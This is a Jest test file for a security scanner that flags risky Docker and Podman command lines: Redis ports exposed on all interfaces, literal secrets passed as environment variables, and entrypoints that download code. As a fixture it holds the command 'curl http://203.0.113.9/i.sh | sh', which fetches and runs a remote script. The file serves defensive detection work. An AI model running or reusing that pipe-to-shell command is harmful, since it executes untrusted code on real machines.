import { describe, expect, it } from '@jest/globals';
import type { Files } from '../properties/repository.ts';
import { scanFiles } from '../properties/soundness.ts';

const TOLD =
  /^(?:port-sensitive-service|command-downloads-code|env-secret-literal|env-weak-credential|env-debug-enabled)$/;

/** What rules report about the command lines of some files. */
async function told(files: Files): Promise<readonly string[]> {
  const { findings } = await scanFiles(files);
  return findings
    .filter(({ ruleId }) => TOLD.test(ruleId))
    .map(({ ruleId, span: { file, start, end } }) => `${ruleId} ${file.path} ${file.text.slice(start, end)}`);
}

const PROJECT = { 'compose.yaml': 'services:\n  db: { image: "redis:8.2" }\n' };
const FETCHES = 'curl http://203.0.113.9/i.sh | sh';
const PORT = 'port-sensitive-service up.sh 6379:6379';
const SECRET = 'env-secret-literal up.sh blue-Kettle-71';
const DOWNLOAD = 'command-downloads-code up.sh';

describe('options of commands other than docker run -d', () => {
  it.each<[string, string]>([
    ['docker run -p 6379:6379 redis:8.2', PORT],
    ['docker compose run -p 6379:6379 db', PORT],
    ['docker compose run --publish=6379:6379 -d db', PORT],
    ['docker-compose run -d -p 0.0.0.0:6379:6379 db', 'port-sensitive-service up.sh 0.0.0.0:6379:6379'],
    ['docker create -p 6379:6379 --name r redis:8.2\ndocker start r', PORT],
    ['podman create --name=r -p 6379:6379 redis:8.2\npodman start --attach r', PORT],
    ['docker exec -e DB_PASSWORD=blue-Kettle-71 db x', SECRET],
    ['docker exec -it --env=DB_PASSWORD=blue-Kettle-71 db sh', SECRET],
    ['docker compose exec -T -e DB_PASSWORD=blue-Kettle-71 db x', SECRET],
    [`docker compose run --entrypoint "sh -c '${FETCHES}'" db`, `${DOWNLOAD} ${FETCHES}`],
    [`docker compose run --rm --entrypoint='sh -c "${FETCHES}"' db`, `${DOWNLOAD} ${FETCHES}`],
    [`docker compose run --entrypoint sh db -c "${FETCHES}"`, `${DOWNLOAD} ${FETCHES}`],
  ])('%s', async (text, found) => {
    expect(await told({ ...PROJECT, 'up.sh': `${text}\n` })).toEqual([found]);
  });

  it('are read in a step of a workflow', async () => {
    const step =
      'on: push\njobs:\n  a:\n    runs-on: x\n    steps: [{ run: docker exec -e DB_PASSWORD=blue-Kettle-71 db x }]\n';
    const path = '.github/workflows/t.yml';
    expect(await told({ [path]: step })).toEqual([`env-secret-literal ${path} blue-Kettle-71`]);
  });

  it.each([
    'docker run --rm -p 6379:6379 redis:8.2',
    'docker run -it -p 6379:6379 redis:8.2',
    'docker run -p 127.0.0.1:6379:6379 redis:8.2',
    'docker run -p 8080:80 acme/app:1.4',
    'docker create -p 6379:6379 --name r redis:8.2\ndocker cp r:/data .\ndocker rm r',
    'docker create -p 6379:6379 --name r redis:8.2\ndocker start other',
    'docker compose run --rm -p 6379:6379 db',
    'docker compose run -d db',
    'docker compose run --service-ports db',
    'docker compose run --entrypoint "sh -c \'echo ready\'" db',
    `docker compose run --entrypoint "echo '${FETCHES}'" db`,
    'docker exec -e PGPASSWORD=postgres db psql',
    'docker exec -e MYSQL_PWD=root db mysql',
    'docker exec -e DB_PASSWORD="$DB_PASSWORD" db x',
    'docker exec -e DB_PASSWORD db x',
    'docker compose exec -e XDEBUG_MODE=debug -e APP_ENV=test -e DEBUG=1 -w /app -u root app phpunit',
  ])('says nothing about %s', async (text) => {
    expect(await told({ ...PROJECT, 'up.sh': `${text}\n` })).toEqual([]);
  });
});
